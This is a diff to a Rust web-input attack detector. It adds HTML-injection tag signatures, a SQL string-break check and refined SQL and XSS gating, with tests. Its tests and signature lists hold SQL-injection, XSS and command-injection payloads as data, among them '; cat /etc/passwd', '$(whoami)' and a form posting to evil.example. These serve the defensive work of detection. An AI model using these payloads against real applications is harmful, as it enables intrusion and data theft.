@@ -213,6 +213,21 @@ const SIGS: &[Sig] = &[
     sig("<base", X, "xss.active_tag", STRONG, LA, RW),
     sig("<isindex", X, "xss.active_tag", STRONG, LA, RW),
     sig("<import", X, "xss.active_tag", STRONG, LA, RW),
+    // Markup that restructures the page or captures input (HTML injection).
+    sig("<form", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<input", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<textarea", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<button", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<xmp", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<plaintext", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<noscript", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<html", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<body", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<head", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<title", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<marquee", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<keygen", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<dialog", X, "xss.markup_injection", STRONG, LA, RW),
     sig("<layer", X, "xss.active_tag", STRONG, LA, RW),
     sig("<ilayer", X, "xss.active_tag", STRONG, LA, RW),
     sig("<bgsound", X, "xss.active_tag", STRONG, LA, RW),
@@ -488,6 +503,9 @@ pub struct Rules {
     compact: AhoCorasick,
     commands: AhoCorasick,
     sql_gate: AhoCorasick,
+    /// For each signature, the signatures with the same keyword (itself included): the
+    /// automaton reports a keyword once, under its first signature.
+    same_keyword: Vec<Vec<usize>>,
 }
 
 impl Rules {
@@ -502,6 +520,10 @@ impl Rules {
         };
         Self {
             sigs: build(SIGS.iter().map(|s| s.pat).collect()),
+            same_keyword: SIGS
+                .iter()
+                .map(|s| (0..SIGS.len()).filter(|&j| SIGS[j].pat == s.pat).collect())
+                .collect(),
             compact: build(COMPACT_SIGS.iter().map(|s| s.0).collect()),
             commands: build(COMMANDS.iter().map(|c| c.0).collect()),
             sql_gate: AhoCorasickBuilder::new()
@@ -533,9 +555,11 @@ impl Rules {
         let canon = &canon[..];
 
         for m in self.sigs.find_iter(canon) {
-            let pat = SIGS[m.pattern().as_usize()].pat;
             // A keyword may carry several signatures with different contexts.
-            for s in SIGS.iter().filter(|s| s.pat == pat) {
+            for s in self.same_keyword[m.pattern().as_usize()]
+                .iter()
+                .map(|&i| &SIGS[i])
+            {
                 if enabled.on(s.category)
                     && left_ok(canon, m.start(), s.left)
                     && right_ok(canon, m.end(), s.right)
@@ -577,6 +601,7 @@ impl Rules {
             if memchr::memchr2(b'-', b'#', canon).is_some() {
                 quote_comments(canon, emit);
             }
+            string_break(canon, emit);
         }
         if enabled.cmd {
             self.commands(canon, emit);
@@ -820,6 +845,71 @@ fn event_handlers(canon: &[u8], emit: &mut dyn FnMut(Hit)) {
             category: X,
             rule: "xss.event_handler",
             score,
+        });
+    }
+}
+
+/// A value that starts inside a SQL string, closes it, applies an operator and opens a new
+/// string for the application's own closing quote: `a' or 'b`, `x'||'y`, `1' xor '0`,
+/// `aa'like-'aa`. Only the first quote of the value is looked at, so quoted words in prose
+/// (`she said 'yes' or 'no'`) do not match. Double-quoted strings are left to libinjection:
+/// search syntaxes quote words that way (`wood" + "sign`).
+fn string_break(canon: &[u8], emit: &mut dyn FnMut(Hit)) {
+    const OPS: &[&[u8]] = &[
+        b"sounds like",
+        b"not like",
+        b"not regexp",
+        b"not rlike",
+        b"regexp",
+        b"rlike",
+        b"like",
+        b"xor",
+        b"div",
+        b"mod",
+        b"and",
+        b"or",
+        b"is",
+        b"||",
+        b"&&",
+        b"|",
+        b"&",
+        b"^",
+        b"+",
+        b"-",
+        b"*",
+        b"/",
+        b"%",
+        b"=",
+    ];
+    let Some(at) = memchr::memchr2(b'\'', b'"', canon) else {
+        return;
+    };
+    // The value must open inside a single-quoted string and close it right after its data: a
+    // quote first thing, or after a space, opens a quoted word instead (`select 'and'`).
+    if at == 0 || canon[at] != b'\'' || canon[at - 1] == b' ' {
+        return;
+    }
+    let quote = canon[at];
+    let skip = |mut i: usize, extra: &[u8]| {
+        while i < canon.len() && (canon[i] == b' ' || extra.contains(&canon[i])) {
+            i += 1;
+        }
+        i
+    };
+    let i = skip(at + 1, b"");
+    let Some(op) = OPS.iter().find(|op| canon[i..].starts_with(op)) else {
+        return;
+    };
+    let end = i + op.len();
+    if op[0].is_ascii_alphabetic() && canon.get(end).is_some_and(|b| is_word(*b)) {
+        return;
+    }
+    let j = skip(end, b"+-!~");
+    if canon.get(j) == Some(&quote) && canon.get(j + 1) != Some(&quote) {
+        emit(Hit {
+            category: S,
+            rule: "sqli.string_break",
+            score: STRONG,
         });
     }
 }
@@ -1264,12 +1354,41 @@ const SQL_GATE: &[&str] = &[
 
 /// Whether libinjection's SQLi detector could find anything in `canon`.
 fn sql_gate(gate: &AhoCorasick, canon: &[u8]) -> bool {
-    let letter = |i: Option<usize>| {
-        i.and_then(|i| canon.get(i))
-            .is_some_and(u8::is_ascii_alphabetic)
+    // A quote matters when SQL punctuation stands next to it (`'=`, `')`, `1'--`, `';`):
+    // apostrophes and quoted words in prose (`rock 'n' roll`, `l'Église`) have letters or
+    // spaces around them. Double quotes alone do not count: they delimit tokens in
+    // JSON-looking values and structured headers (`"Chromium";v="124"`). An injection without
+    // such punctuation needs a keyword or an operator, which the search below finds.
+    let sql_mark = |b: Option<&u8>| {
+        b.is_some_and(|b| {
+            matches!(
+                b,
+                b'=' | b'<'
+                    | b'>'
+                    | b'('
+                    | b')'
+                    | b';'
+                    | b'|'
+                    | b'&'
+                    | b'+'
+                    | b'-'
+                    | b'#'
+                    | b'*'
+                    | b'/'
+                    | b','
+                    | b'%'
+                    | b'!'
+                    | b'^'
+                    | b'@'
+                    | b'0'..=b'9'
+            )
+        })
     };
     let quoted = canon.iter().enumerate().any(|(i, &b)| {
-        b == b'"' || b == b'`' || (b == b'\'' && !(letter(i.checked_sub(1)) && letter(Some(i + 1))))
+        b == b'`'
+            || (b == b'\''
+                && (sql_mark(canon[i + 1..].iter().find(|&&c| c != b' '))
+                    || sql_mark(canon[..i].iter().rev().find(|&&c| c != b' '))))
     });
     if quoted {
         return true;
@@ -1286,11 +1405,36 @@ fn sql_gate(gate: &AhoCorasick, canon: &[u8]) -> bool {
         }
         if matches!(
             pat,
+            b"char"
+                | b"concat"
+                | b"cast"
+                | b"convert"
+                | b"substring"
+                | b"ascii"
+                | b"version"
+                | b"database"
+                | b"schema"
+                | b"exists"
+                | b"sleep"
+                | b"benchmark"
+        ) {
+            // A function name counts only when called.
+            return right_ok(canon, m.end(), Right::Call);
+        }
+        if matches!(
+            pat,
             b"or" | b"and" | b"xor" | b"||" | b"&&" | b"not" | b"like" | b"div" | b"mod"
         ) {
-            // A logical operator joins SQL only when an operand that is not a word follows.
-            let next = canon[m.end()..].iter().find(|&&b| b != b' ');
-            return next.is_some_and(|b| !b.is_ascii_alphabetic());
+            // A logical operator joins SQL only when an operand that is not a word follows: a
+            // number, a string, a parenthesis, a variable or a unary operator before a number
+            // (`not-a.brand` is a word).
+            let rest = &canon[m.end()..];
+            let at = rest.iter().position(|&b| b != b' ').unwrap_or(rest.len());
+            return match rest.get(at) {
+                Some(b'0'..=b'9' | b'\'' | b'"' | b'`' | b'(' | b'@' | b'!' | b'~') => true,
+                Some(b'-' | b'+') => rest.get(at + 1).is_some_and(u8::is_ascii_digit),
+                _ => false,
+            };
         }
         true
     })
@@ -1352,14 +1496,27 @@ fn libinjection(
             });
         }
     }
-    // Outside markup, libinjection's HTML grammar needs an attribute (a name then `=`) that
-    // a space or a quote separates from the value it breaks out of.
+    // Outside markup, libinjection's HTML grammar needs an attribute: a name then `=`, with a
+    // space, a slash or a quote before the name to separate it from the value it breaks out
+    // of (`x" onmouseover=...`); `;v="124"` in a structured header is no attribute.
     let html = memchr::memchr2(b'<', b'`', text).is_some()
-        || (memchr::memchr3(b' ', b'"', b'\'', text).is_some()
-            && memchr::memchr_iter(b'=', text).any(|i| {
-                let before = text[..i].trim_ascii_end();
-                before.last().is_some_and(u8::is_ascii_alphabetic)
-            }));
+        || memchr::memchr_iter(b'=', text).any(|i| {
+            let before = text[..i].trim_ascii_end();
+            let name = before
+                .iter()
+                .rev()
+                .take(WINDOW)
+                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b':'))
+                .count();
+            let start = before.len() - name;
+            name > 0
+                && before[start].is_ascii_alphabetic()
+                && start > 0
+                && matches!(
+                    before[start - 1],
+                    b' ' | b'\t' | b'\n' | b'\r' | b'/' | b'"' | b'\''
+                )
+        });
     if enabled.xss && html && libinjectionrs::detect_xss(text).is_injection() {
         emit(Hit {
             category: X,
@@ -1403,8 +1560,13 @@ mod tests {
         assert!(hits("1 UNION/**/ALL SELECT null--").contains(&"sqli.union_select"));
         assert!(hits("x' or 'a'='a").contains(&"sqli.tautology"));
         assert!(hits("1 AND SLEEP(5)").contains(&"sqli.time_function"));
+        assert!(hits("a' or 'b").contains(&"sqli.string_break"));
+        assert!(hits("aa'like-'aa").contains(&"sqli.string_break"));
         assert!(hits("<svg/onload=alert(1)>").contains(&"xss.event_handler"));
         assert!(hits("java\tscript:alert`1`").contains(&"xss.script_uri"));
+        assert!(
+            hits("<form action=//evil.example><input name=pw>").contains(&"xss.markup_injection")
+        );
         assert!(hits("; cat /etc/passwd").contains(&"cmdi.separator_command"));
         assert!(hits("a|/usr/bin/id").contains(&"cmdi.separator_command"));
         assert!(hits("$(whoami)").contains(&"cmdi.substitution"));
@@ -1430,6 +1592,9 @@ mod tests {
             "cat 6 cable",
             "sleep 8 hours",
             "turn the lights on=off",
+            "she said 'yes' or 'no'",
+            "select 'and' or 'or'",
+            "Jane's' + 'x",
         ] {
             assert!(hits(text).is_empty(), "{text}: {:?}", hits(text));
         }
